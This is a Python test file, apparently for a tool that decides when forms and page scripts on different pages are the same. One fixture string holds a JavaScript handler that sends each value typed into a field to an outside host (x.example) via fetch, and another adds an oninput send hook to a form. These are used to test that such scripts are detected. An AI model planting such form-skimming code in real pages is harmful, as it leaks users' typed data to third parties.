"""Which forms are the same place, so that typing on two pages tells of all."""

import pytest

from safeinfo.derive.dom import Document
from safeinfo.derive.forms import read_forms
from safeinfo.gather.browser.scripts import scripts_of
from safeinfo.gather.browser.tree import ELEMENT, TEXT, Node
from safeinfo.gather.walk.sameness import ENOUGH, Places, place_of

NEWS = """<form action=/news method=post data-si-node="NR" data-si-box="0,NR,10,10">
<input type=hidden name=token value="tNR">
<label>E-mail <input type=email name=email required></label><button>Subscribe</button></form>"""


def numbered(number: int) -> str:
    return NEWS.replace("NR", str(number))


def place(body: str, url: str = "https://shop.example/a", frame: str = "", runs: tuple[str, ...] = ()) -> str:
    document = Document.parse(f"<html><body data-si-node=1>{body.replace('NR', '5')}</body></html>", url, frame)
    (form,) = read_forms(document)
    return place_of(form, document, runs)


def test_the_same_form_on_another_page_is_the_same_place() -> None:
    assert place(numbered(7)) == place(f"<p>more</p>{numbered(9)}", "https://shop.example/b?c=1")


@pytest.mark.parametrize(
    "other",
    [
        {"body": NEWS.replace("required", "required oninput=send(this)")},
        {"body": NEWS.replace("E-mail", "Private e-mail")},
        {"body": NEWS.replace("/news", "/letters")},
        {"body": NEWS.replace("<label>", "<label><input name=name>Name</label><label>")},
        {"url": "https://other.example/a"},
        {"frame": "iframe"},
        {"runs": ("https://tracker.example/t.js",)},
    ],
)
def test_another_form_or_other_things_beside_it_are_another_place(other: dict) -> None:
    assert place(NEWS) != place(**{"body": NEWS, **other})


def test_a_form_that_does_not_say_where_it_goes_is_another_on_each_page() -> None:
    contact = "<div><label>Name <input name=name></label><textarea name=message></textarea><button>Send</button></div>"
    assert place(contact) != place(contact, "https://shop.example/b")


def script(code: str = "", **attributes: str) -> Node:
    node = Node(ELEMENT, "script", "", 1, attributes)
    node.children.append(Node(TEXT, "", code, 2))
    return node


URL = "https://shop.example/a/"
SEND = 'field.oninput = () => fetch("https://x.example/?" + field.value)'


@pytest.mark.parametrize(
    ("one", "other", "same"),
    [
        (script('show("Tea pot", 12.50)'), script('show("Cup", 3)'), True),
        (script("show('tea')"), script("show('tea'); listen()"), False),
        (script(SEND), script(SEND.replace("x.example", "y.example")), False),
        (script('{"name": "tea"}', type="application/ld+json"), script("{}", type="application/json"), True),
        (script(src="../s.js"), script(src="https://shop.example/s.js"), True),
        (script(src="/s.js?page=1"), script(src="/s.js?page=2"), False),
        (Node(ELEMENT, "input", "", 1, {"onkeyup": "send(1)"}), Node(ELEMENT, "input", "", 1, {}), False),
    ],
)
def test_what_a_document_runs(one: Node, other: Node, same: bool) -> None:
    assert (scripts_of([one], URL) == scripts_of([other], URL)) is same


def test_enough_is_twice_and_what_is_spared_is_told() -> None:
    places = Places()
    for _ in range(ENOUGH):
        places.spare(["news"])
        assert not places.enough("news")
        places.typed["news"] += 1
    assert not places.said
    places.spare(["news"])
    places.spare(["news", "contact"])
    assert places.enough("news")
    assert (places.met, places.spared["news"]) == (ENOUGH + 2, 2)
    assert "2 more pages" in places.said
    assert not places.enough("")
